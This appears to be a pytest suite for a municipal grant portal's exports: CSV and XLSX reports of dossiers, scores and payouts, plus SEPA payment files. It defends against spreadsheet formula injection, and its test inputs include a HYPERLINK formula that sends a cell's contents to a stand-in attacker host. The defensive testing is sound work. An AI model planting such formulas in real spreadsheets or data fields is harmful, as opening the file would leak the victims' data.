"""Exports on a real database: the dossiers, scores and payouts as CSV and XLSX with the right amounts,
CSV fields that a spreadsheet would run as a formula neutralised, XLSX text kept as typed in text
cells, and the SEPA file of approved transfers."""

import csv
import io
import os
import xml.etree.ElementTree as ET
import zipfile
from datetime import date, timedelta

import pytest
import sepaxml
import xmlschema
from openpyxl import load_workbook
from sqlalchemy import event, select
from sqlalchemy.exc import IntegrityError

from portal.db import brussels_today, utcnow
from portal.extensions import db
from portal.models import AuditEntry, PaymentBatchItem
from portal.services import exports, payment_batches, payouts, reviews
from portal.services.exports import Cents, NothingToTransfer
from portal.services.seed import sample_report
from tests.conftest import make_user
from tests.factories import (
    complete_draft,
    granted_dossier,
    in_review,
    municipality,
    open_call,
    payout_people,
    scored_dossier,
    submitted_dossier,
    to_bank,
)
from workflows.payouts import PayoutKind, PayoutState

ASKED = 5_400_00  # half-time at EUR 5.400,00 a month for four months, at 50 %
ADVANCE = 2_160_00  # 40 % of it, at grant
PAIN = "urn:iso:std:iso:20022:tech:xsd:pain.001.001.03"
XSD = os.path.join(os.path.dirname(sepaxml.__file__), "schemas", "pain.001.001.03.xsd")
EVIL = [
    '=HYPERLINK("https://evil.example/?"&A1,"klik")',
    "+1 want het is goed",
    "@SUM(A1:A9)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture(autouse=True)
def dutch_request(app, db_session):
    """The headers are translated for the user of a request, as the download route asks for them (Dutch)."""
    with app.test_request_context():
        yield


@pytest.fixture
def people(db_session):
    return payout_people()


def advance_of(dossier):
    return next(p for p in payouts.payouts_of(dossier) if p.kind == PayoutKind.ADVANCE)


@pytest.fixture
def money(people):
    """Four granted dossiers of one call with a 40 % advance: two advances approved, one still planned,
    and one paid whose settlement asks part of it back (a recovery, approved)."""
    call = open_call("ARM-EXP", advance_percent=40)
    approved = [granted_dossier(people, call, receiving_nis=nis) for nis in ("45041", "11002")]
    planned = granted_dossier(people, call, receiving_nis="37022")
    recovered = granted_dossier(people, call, receiving_nis="24062")
    payouts.approve(advance_of(recovered).id, people["finance"])
    to_bank(people["finance2"])
    payouts.pay(advance_of(recovered).id, people["finance2"], brussels_today(), "BNK-ADV")
    for dossier in approved:
        payouts.approve(advance_of(dossier).id, people["finance"])
    sample_report(recovered, make_user("applicant"), end_on=date(2026, 9, 30))  # one month: EUR 1.350,00
    payouts.settle_report(recovered.id, people["officer"])
    recovery = next(p for p in payouts.payouts_of(recovered) if p.kind == PayoutKind.RECOVERY)
    payouts.approve(recovery.id, people["finance"])
    return {"approved": approved, "planned": planned, "recovered": recovered, "recovery": recovery}


def read_csv(data):
    assert data.startswith(b"\xef\xbb\xbf"), "Excel in nl-BE needs the BOM to read UTF-8"
    text = data.decode("utf-8-sig")
    assert "\r\n" in text and "\n" not in text.replace("\r\n", "")
    header, *rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    return [dict(zip(header, row, strict=True)) for row in rows]


def read_xlsx(data):
    sheet = load_workbook(io.BytesIO(data)).active
    header = [cell.value for cell in sheet[1]]
    return sheet, header, [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


def by_reference(rows, reference, column="Referentie"):
    (row,) = [r for r in rows if (r[column].value if hasattr(r[column], "value") else r[column]) == reference]
    return row


# --- the datasets ------------------------------------------------------------------------------


def test_the_dossier_export_has_every_submitted_dossier_with_its_money_in_both_formats(people, money):
    draft = complete_draft(make_user("applicant"), open_call("ARM-EXP"), receiving_nis="31005")  # never submitted
    table = exports.dossiers_table()
    rows = read_csv(exports.to_csv(table))
    references = {r["Referentie"] for r in rows}
    assert {d.reference for d in [*money["approved"], money["planned"], money["recovered"]]} <= references
    assert draft.reference is None and "" not in references

    planned = by_reference(rows, money["planned"].reference)
    assert (planned["Oproep"], planned["Status"], planned["Statuscode"]) == (
        "ARM-EXP",
        "Toegekend",
        "granted",
    )  # words, and the stable code
    assert (planned["Gevend bestuur"], planned["NIS-code gevend bestuur"]) == ("Gent", "44021")
    assert (
        planned["Ontvangend bestuur"],
        planned["NIS-code ontvangend bestuur"],
        planned["Provincie gevend bestuur"],
    ) == ("Tielt", "37022", "Oost-Vlaanderen")
    assert (planned["Vorm"], planned["Thema's"]) == (
        "Mentoring",
        "Lokale regie; Participatief werken met mensen in armoede",
    )
    assert len(planned["Ingediend op"]) == len("2026-11-23 14:05") and planned["Ingediend op"][4] == "-"
    assert [planned[c] for c in ("Gevraagd", "Gereserveerd", "Vastgelegd", "Betaald", "Openstaand")] == [
        "5.400,00",
        "0,00",
        "5.400,00",
        "0,00",
        "5.400,00",
    ]
    # Advance paid, settled at one month, the excess still to come back: committed stays at what was paid.
    recovered = by_reference(rows, money["recovered"].reference)
    assert [recovered[c] for c in ("Vastgelegd", "Betaald", "Openstaand")] == ["2.160,00", "2.160,00", "0,00"]

    sheet, header, xrows = read_xlsx(exports.to_xlsx(table, "Dossiers"))
    assert sheet.title == "Dossiers" and sheet.freeze_panes == "A2"
    assert all(cell.font.bold for cell in sheet[1]) and header[0] == "Referentie"
    row = by_reference(xrows, money["planned"].reference)
    assert [row[c].value for c in ("Gevraagd", "Vastgelegd", "Betaald", "Openstaand")] == [5400, 5400, 0, 5400]
    assert row["Gevraagd"].data_type == "n" and row["Gevraagd"].number_format == "#,##0.00"
    assert sheet.column_dimensions["A"].width >= len(money["planned"].reference)


def test_the_dossier_export_takes_the_same_number_of_queries_for_one_dossier_or_many(people):
    call = open_call()
    submitted_dossier(call)

    def statements():
        db.session.flush()
        connection = db.session.connection()
        seen = []

        def count(*args):
            seen.append(args)

        event.listen(connection, "before_cursor_execute", count)
        try:
            exports.dossiers_table()
        finally:
            event.remove(connection, "before_cursor_execute", count)
        return len(seen)

    one = statements()
    for nis in ("11002", "37022", "24062"):
        submitted_dossier(call, receiving_nis=nis)
    assert statements() == one == 2  # the dossiers, and the names of the themes


def test_the_score_export_has_one_row_per_criterion_of_every_submitted_review(people):
    call = open_call()
    dossier = scored_dossier(call, people["officer"], people["reviewers"], score=2)
    codes = [c.code for c in call.criteria]
    headers, rows = exports.scores_table()
    mine = [r for r in rows if r[0] == dossier.reference]
    assert len(mine) == len(people["reviewers"]) * len(codes)
    first = dict(zip(headers, mine[0], strict=True))
    assert [r[4] for r in mine[: len(codes)]] == codes  # the rubric's order
    score = reviews.score_of(dossier)
    rubric_max_total = sum(c.weight * 2 for c in call.criteria)
    assert (first["Score"], first["Gewogen totaal van de beoordeling"]) == (2, rubric_max_total)
    assert float(first["Gemiddeld gewogen totaal van het dossier"]) == pytest.approx(float(score.mean_total), abs=0.005)
    assert first["Haalt de kwaliteitsdrempel en de minimumscores"] == ("ja" if score.passes else "nee")
    csv_row = by_reference(read_csv(exports.to_csv((headers, mine[:1]))), dossier.reference)
    assert csv_row["Gemiddeld gewogen totaal van het dossier"] == f"{float(score.mean_total):.2f}".replace(".", ",")


def test_the_payout_export_lists_every_payout_with_who_prepared_and_approved_it(people, money):
    rows = read_csv(exports.to_csv(exports.payouts_table()))
    recovery = money["recovery"]
    row = by_reference(rows, recovery.end_to_end_id, "Referentie voor de bank")
    assert (row["Dossier"], row["Gevend bestuur"], row["Soort"], row["Status"], row["Statuscode"]) == (
        money["recovered"].reference,
        "Gent",
        "Terugvordering",
        "Goedgekeurd",
        "approved",
    )
    assert (row["Bedrag"], row["IBAN"], row["Goedgekeurd door"]) == (
        "810,00",
        recovery.iban,
        people["finance"].full_name,
    )
    paid = by_reference(rows, advance_of(money["recovered"]).end_to_end_id, "Referentie voor de bank")
    assert (paid["Statuscode"], paid["Bedrag"], paid["Betaald op"], paid["Bankreferentie"]) == (
        "paid",
        "2.160,00",
        brussels_today().isoformat(),
        "BNK-ADV",
    )
    planned = by_reference(rows, advance_of(money["planned"]).end_to_end_id, "Referentie voor de bank")
    assert (planned["Voorbereid door"], planned["Goedgekeurd door"], planned["Goedgekeurd op"]) == (
        people["officer"].full_name,
        "",
        "",
    )


# --- formula injection -------------------------------------------------------------------------


@pytest.mark.parametrize("text", EVIL)
def test_text_that_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
    assert exports.neutralise(text) == "'" + text


@pytest.mark.parametrize("text", ["Gent", "1-2", "", "Sint-Niklaas", "'al tekst"])
def test_ordinary_text_is_left_alone(text):
    assert exports.neutralise(text) == text


def test_amounts_we_write_ourselves_are_never_escaped_but_csv_text_is():
    table = (["Bedrag", "Tekst"], [[Cents(-50_00), "-5"]])
    assert read_csv(exports.to_csv(table)) == [{"Bedrag": "-50,00", "Tekst": "'-5"}]
    sheet, _header, (row,) = read_xlsx(exports.to_xlsx(table, "Proef"))
    assert (row["Bedrag"].value, row["Bedrag"].data_type) == (-50, "n")
    assert (row["Tekst"].value, row["Tekst"].data_type) == ("-5", "s")


def test_xlsx_keeps_text_as_typed_in_text_cells_that_never_run():
    typed = ["=1+1", "+32 475 12 34 56", *EVIL[:4], "Gent", "'al tekst"]
    table = (["=Kop", "Tekst"], [["Gent", text] for text in typed])
    data = exports.to_xlsx(table, "Proef")

    sheet, header, rows = read_xlsx(data)
    assert header == ["=Kop", "Tekst"] and sheet["A1"].data_type == "s"
    assert [(r["Tekst"].value, r["Tekst"].data_type) for r in rows] == [(text, "s") for text in typed]
    # Excel's mark for text typed after an apostrophe: editing such a cell does not make it a formula.
    assert [r["Tekst"].quotePrefix for r in rows] == [text.startswith(("=", "+", "-", "@")) for text in typed]
    # Read as a spreadsheet would: inline text, not one formula element in the sheet.
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        xml = package.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml
    assert "<t>=1+1</t>" in xml and "<t>+32 475 12 34 56</t>" in xml


def test_csv_still_escapes_what_xlsx_keeps_as_typed():
    table = (["Tekst"], [["=1+1"], ["+32 475 12 34 56"], ["@SUM(A1:A9)"], ["-2+3"], ["Gent"]])
    assert [r["Tekst"] for r in read_csv(exports.to_csv(table))] == [
        "'=1+1",
        "'+32 475 12 34 56",
        "'@SUM(A1:A9)",
        "'-2+3",
        "Gent",
    ]


def test_names_and_comments_that_look_like_formulas_come_out_as_text_in_both_formats(people):
    call = open_call()
    municipality("44021").name = EVIL[0]  # the giving government, as a tampered reference list would have it
    reviewer = people["reviewers"][0]
    reviewer.full_name = EVIL[2]
    dossier = in_review(submitted_dossier(call), people["officer"], people["reviewers"])
    for member in people["reviewers"]:
        review = next(r for r in reviews.reviews_of(dossier) if r.reviewer_id == member.id)
        scores = {c.code: (2, EVIL[1]) for c in call.criteria}
        reviews.save_scores(review.id, member, scores, EVIL[3])
        reviews.submit_review(review.id, member, utcnow())
    db.session.flush()

    checks = [
        (exports.dossiers_table(), "Referentie", "Gevend bestuur", EVIL[0]),
        (exports.scores_table(), "Referentie", "Beoordelaar", EVIL[2]),
        (exports.scores_table(), "Referentie", "Commentaar bij het criterium", EVIL[1]),
        (exports.scores_table(), "Referentie", "Algemene commentaar", EVIL[3]),
    ]
    for table, key, column, text in checks:
        csv_rows = [r for r in read_csv(exports.to_csv(table)) if r[key] == dossier.reference]
        assert csv_rows and {r[column] for r in csv_rows} >= {"'" + text}, column
        _sheet, _header, xrows = read_xlsx(exports.to_xlsx(table, "Proef"))
        cells = [r[column] for r in xrows if r[key].value == dossier.reference]
        assert cells and any(c.value == text for c in cells), column
        assert all(c.data_type == "s" for c in cells if c.value is not None), column


# --- payment files (SEPA pain.001) -----------------------------------------------------------------------------


def transactions(xml):
    root = ET.fromstring(xml)  # noqa: S314 (the file the portal itself just made)
    ns = {"p": PAIN}
    return (
        root,
        ns,
        {tx.findtext("p:PmtId/p:EndToEndId", namespaces=ns): tx for tx in root.iterfind(".//p:CdtTrfTxInf", ns)},
    )


def test_a_payment_batch_holds_exactly_the_approved_advances_and_balances_and_validates(app, people, money):
    execution = brussels_today() + timedelta(days=3)
    batch = payment_batches.create_batch(people["finance"], execution)
    xmlschema.XMLSchema(XSD).validate(batch.content.decode())

    root, ns, found = transactions(batch.content)
    approved = [advance_of(d) for d in money["approved"]]
    assert set(found) == {p.end_to_end_id for p in approved}  # not planned, not paid, never a recovery
    assert root.findtext("p:CstmrCdtTrfInitn/p:GrpHdr/p:NbOfTxs", namespaces=ns) == "2"
    assert root.findtext("p:CstmrCdtTrfInitn/p:GrpHdr/p:CtrlSum", namespaces=ns) == "4320.00"
    for payout in approved:
        tx = found[payout.end_to_end_id]
        assert tx.findtext("p:Amt/p:InstdAmt", namespaces=ns) == "2160.00"
        assert tx.find("p:Amt/p:InstdAmt", ns).get("Ccy") == "EUR"
        assert tx.findtext("p:Cdtr/p:Nm", namespaces=ns) == "Gent"
        assert tx.findtext("p:CdtrAcct/p:Id/p:IBAN", namespaces=ns) == payout.iban
        assert tx.findtext("p:RmtInf/p:Ustrd", namespaces=ns) == f"{payout.application.reference} voorschot"
        assert payout.state == PayoutState.IN_FILE
    info = root.find("p:CstmrCdtTrfInitn/p:PmtInf", ns)
    assert info.findtext("p:ReqdExctnDt", namespaces=ns) == execution.isoformat()
    assert info.findtext("p:DbtrAcct/p:Id/p:IBAN", namespaces=ns) == app.config["SEPA_DEBTOR_IBAN"]
    assert info.findtext("p:DbtrAgt/p:FinInstnId/p:BIC", namespaces=ns) == app.config["SEPA_DEBTOR_BIC"]

    message_id = root.findtext("p:CstmrCdtTrfInitn/p:GrpHdr/p:MsgId", namespaces=ns)
    assert batch.message_id == message_id and (batch.payout_count, batch.total_cents) == (2, 2 * ADVANCE)
    entry = db.session.scalar(
        select(AuditEntry).where(AuditEntry.action == "payment_batch.created", AuditEntry.entity_id == str(batch.id))
    )
    assert entry.actor_id == people["finance"].id
    assert entry.details["payout_ids"] == sorted(p.id for p in approved)
    assert entry.details["message_id"] == message_id and entry.details["total_cents"] == 2 * ADVANCE


def test_a_balance_is_transferred_with_its_own_description(people):
    dossier = granted_dossier(people, open_call("ARM-BAL"))
    sample_report(dossier, make_user("applicant"), end_on=date(2026, 12, 31))
    payouts.settle_report(dossier.id, people["officer"])
    (balance,) = payouts.payouts_of(dossier)
    payouts.approve(balance.id, people["finance"])
    _root, ns, found = transactions(exports.pain001([balance], brussels_today()).xml)
    assert found[balance.end_to_end_id].findtext("p:RmtInf/p:Ustrd", namespaces=ns) == f"{dossier.reference} saldo"
    assert found[balance.end_to_end_id].findtext("p:Amt/p:InstdAmt", namespaces=ns) == "5400.00"


def test_a_payout_in_a_payment_file_is_never_in_a_second_one(people, money):
    first = payment_batches.create_batch(people["finance"], brussels_today())
    with pytest.raises(NothingToTransfer):  # the planned, the paid and the recovery are never transferred
        payment_batches.create_batch(people["finance2"], brussels_today())
    others = [advance_of(money["planned"]), advance_of(money["recovered"]), money["recovery"]]
    assert [(p.state, p.kind) for p in others] == [
        (PayoutState.PLANNED, PayoutKind.ADVANCE), (PayoutState.PAID, PayoutKind.ADVANCE), (PayoutState.APPROVED, PayoutKind.RECOVERY),
    ]  # fmt: skip
    # Even code that would try: the database holds a payout pending in one file only.
    item = first.items[0]
    with db.session.begin_nested(), pytest.raises(IntegrityError):
        db.session.add(
            PaymentBatchItem(
                batch_id=item.batch_id, payout_id=item.payout_id, amount_cents=1, end_to_end_id="X", outcome="pending"
            )
        )
        db.session.flush()


def test_paid_or_failed_is_recorded_per_payout_and_a_failed_one_goes_into_a_later_file(people, money):
    paid, failed = (advance_of(d) for d in money["approved"])
    first = payment_batches.create_batch(people["finance"], brussels_today())
    payouts.pay(paid.id, people["finance"], brussels_today(), "BNK-1")
    payouts.fail(failed.id, people["finance"], "Rekening afgesloten")
    assert {i.payout_id: i.outcome for i in first.items} == {paid.id: "paid", failed.id: "failed"}
    payouts.replan(failed.id, people["finance"])
    payouts.approve(failed.id, people["finance2"])
    second = payment_batches.create_batch(people["finance"], brussels_today())
    assert [i.payout_id for i in second.items] == [failed.id] and second.message_id != first.message_id
    assert {i.payout_id: i.outcome for i in first.items} == {
        paid.id: "paid",
        failed.id: "failed",
    }  # the first file's record stays
    payouts.pay(failed.id, people["finance"], brussels_today(), "BNK-2")
    assert [i.outcome for i in second.items] == ["paid"]


def test_an_empty_portal_has_nothing_to_transfer(people):
    assert exports.transferable_payouts() == []
    with pytest.raises(NothingToTransfer):
        payment_batches.create_batch(people["finance"], brussels_today())
    assert db.session.scalar(select(AuditEntry).where(AuditEntry.action == "payment_batch.created")) is None


def test_only_finance_makes_a_payment_file(people, money):
    with pytest.raises(payouts.PayoutRefused):
        payment_batches.create_batch(people["officer"], brussels_today())
